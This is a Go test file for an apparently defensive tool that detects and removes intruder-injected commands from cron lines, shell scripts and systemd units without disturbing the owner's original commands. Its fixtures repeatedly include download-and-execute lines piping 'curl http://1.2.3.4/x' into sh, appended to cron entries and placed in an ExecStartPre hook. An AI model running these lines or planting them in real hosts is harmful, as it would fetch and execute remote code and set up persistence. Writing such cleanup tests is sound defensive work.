package persist

import (
	"context"
	"slices"
	"strings"
	"testing"

	"github.com/deminer/deminer/internal/host/hosttest"
)

// TestOneCommandIsTakenOutExactly: @ marks where the intruder's text stands in the owner's line.
func TestOneCommandIsTakenOutExactly(t *testing.T) {
	for _, c := range []struct{ line, bad string }{
		{"/a/backup.sh@", "; curl -s http://1.2.3.4/x | sh"},
		{"/a/backup.sh@", " && curl -s http://1.2.3.4/x | sh >/dev/null 2>&1"},
		{"/a/backup.sh@", "; curl -s http://1.2.3.4/x | sh &"},
		{"@/a/backup.sh", "curl -s http://1.2.3.4/x | sh; "},
		{"@/a/backup.sh", "curl -s http://1.2.3.4/x | sh & "},
		{"@/a/backup.sh", "curl -s http://1.2.3.4/x | sh || true; "},
		{"cd /a && @ls -l | tail -1 > x", "curl http://1.2.3.4/x | sh && "},
		{"cd /a@ && ls -l | tail -1 > x", " && curl http://1.2.3.4/x | sh"},
		{"/a/x &@", " curl http://1.2.3.4/x | sh"},
		{"/a/x & @/a/y", "curl http://1.2.3.4/x | sh & "},
		{"/a/x; @/a/y", "curl http://1.2.3.4/x | sh & "},
		{"/a/x@ &", " && curl http://1.2.3.4/x | sh; /a/z"},
		{`/a/x "a;b" 'c && d' \; $(e; f) @`, "; curl http://1.2.3.4/x | sh"},
		{"(/a/x; /a/y) >log 2>&1@", " ; (curl http://1.2.3.4/x | sh)"},
		{"/a/x@ # the owner's; remark", "; curl http://1.2.3.4/x | sh"},
		{"/a/x &>/dev/null@", "; curl http://1.2.3.4/x | sh"},
	} {
		owner, line := strings.Replace(c.line, "@", "", 1), strings.Replace(c.line, "@", c.bad, 1)
		for {
			list := elements(line)
			k := -1
			for i, e := range list {
				if text := line[e.from:e.to]; strings.Contains(text, "1.2.3.4") && !strings.HasPrefix(text, "'") || text == "/a/z" || text == "/a/z &" {
					k = i
				}
			}
			if k < 0 {
				break
			}
			rest, ok := withoutOne(line, list, k)
			if !ok {
				t.Errorf("%q: not taken out: %v", line, list)
				break
			}
			line = rest
		}
		if strings.TrimSpace(line) != strings.TrimSpace(owner) && strings.TrimSuffix(strings.TrimSpace(owner), " &") != strings.TrimSpace(line) {
			t.Errorf("left %q, the owner's was %q", line, owner)
		}
	}
}

func TestWhatIsNoFlatListIsLeftAlone(t *testing.T) {
	for _, s := range []string{"if true; then x; fi", "for i in 1 2; do x; done", "x <<E; y", "echo 'a; b", "a $(b; c", "a; { b; c; }", "case $1 in a) x;; esac", "a)b;c", "a;b\nc", "(a; b"} {
		if list := elements(s); list != nil {
			t.Errorf("%q was cut into %v", s, list)
		}
	}
}

// TestWhatRunsStaysAsItRan: an owner's command must not come to hang on one that it did not hang on, nor leave the background.
func TestWhatRunsStaysAsItRan(t *testing.T) {
	for line, want := range map[string]string{
		"a; x && b":      "a; b",
		"a & x && b":     "a & b",
		"a && x && b":    "a && b",
		"a; x; b":        "a; b",
		"a; x & b":       "a; b",
		"a && x; b":      "a; b",
		"a && x &":       "a &",
		"a && x & b":     "a & b",
		"a & x &":        "a &",
		"a; x || true":   "a",
		"a; b && x || c": "a; b || c",
		"x || b":         "", // it ran only after a failure
		"a; x || b":      "",
		"a & x || b":     "",
		"a && b; x || c": "",
	} {
		list := elements(line)
		k := slices.IndexFunc(list, func(e element) bool { return line[e.from] == 'x' })
		got, ok := withoutOne(line, list, k)
		if !ok {
			got = ""
		}
		if strings.TrimSpace(got) != want {
			t.Errorf("%q without x is %q, want %q", line, got, want)
		}
	}
}

const sharedHost = `
-- /etc/cron.d/b --
1 2 * * * root /usr/local/bin/b.sh; curl http://1.2.3.4/x | sh
2 2 * * * root /usr/local/bin/b.sh
-- /usr/local/bin/b.sh --
#!/bin/bash
set -e
# dump
if [ -x /usr/bin/pg_dump ]; then
    /usr/bin/pg_dump shop > /b/x; /opt/e -B
fi
case "$1" in
    start)
        /opt/e
        ;;
esac
cat <<X
curl http://1.2.3.4/x | sh
X
/opt/e &
-- /opt/e --
ELF
-- /usr/bin/pg_dump --
ELF
-- /etc/systemd/system/a.service --
[Service]
ExecStart=/opt/own
ExecStartPre=-/bin/sh -c "curl http://1.2.3.4/x | sh"
[Install]
WantedBy=multi-user.target
-- /opt/own --
#!/usr/bin/python3
import os
-- @attr --
/usr/local/bin/b.sh mode=755
/opt/e mode=755
/opt/own mode=755
`

func TestSharedTakesScriptsUnitsAndLinesApart(t *testing.T) {
	h, err := hosttest.Parse([]byte(sharedHost))
	if err != nil {
		t.Fatal(err)
	}
	env := Env{Host: &h.Host}
	found, _ := List(context.Background(), env)
	list, gaps := Shared(context.Background(), env, found)
	if len(gaps) > 0 {
		t.Errorf("gaps: %v", gaps)
	}
	got := map[string]string{}
	for _, s := range list {
		for _, p := range s.Parts {
			how := "by hand"
			if len(p.Remove) > 0 {
				how = string(p.Remove[0].Verb) + " " + string(p.Remove[0].Args["new"])
			}
			got[string(s.Whole.Path)+"|"+string(p.Command)] = how
		}
	}
	for ref, want := range map[string]string{
		"/etc/cron.d/b|curl http://1.2.3.4/x | sh":                               "edit-line 1 2 * * * root /usr/local/bin/b.sh",
		"/usr/local/bin/b.sh|/opt/e -B":                                          "edit-line     /usr/bin/pg_dump shop > /b/x",
		"/usr/local/bin/b.sh|/usr/bin/pg_dump shop > /b/x":                       "edit-line     /opt/e -B",
		"/usr/local/bin/b.sh|/opt/e":                                             "cut-line ",
		"/usr/local/bin/b.sh|/opt/e &":                                           "cut-line ",
		"/usr/local/bin/b.sh|if [ -x /usr/bin/pg_dump ]; then":                   "by hand",
		"/usr/local/bin/b.sh|cat <<X\ncurl http://1.2.3.4/x | sh\nX":             "cut-line ",
		`/etc/systemd/system/a.service|-/bin/sh -c "curl http://1.2.3.4/x | sh"`: "cut-line ",
		"/etc/systemd/system/a.service|/opt/own":                                 "cut-line ",
	} {
		if got[ref] != want {
			t.Errorf("%s: %q, want %q", ref, got[ref], want)
		}
	}
	for ref := range got {
		if strings.HasPrefix(ref, "/opt/own") {
			t.Errorf("%s: no shell script", ref)
		}
	}
}

func FuzzElements(f *testing.F) {
	for _, s := range []string{"a; b && c || d & e", "a 'b;c' | d; (e; f) &", "a || true; b", "a;;b", "\\"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		list := elements(s)
		at := 0
		for k, e := range list {
			if e.from < at || e.to <= e.from || e.to > len(s) {
				t.Fatalf("%q: bad elements %v", s, list)
			}
			at = e.to
			if rest, ok := withoutOne(s, list, k); ok && len(rest) >= len(s) {
				t.Fatalf("%q without its command %d is %q", s, k, rest)
			}
		}
	})
}
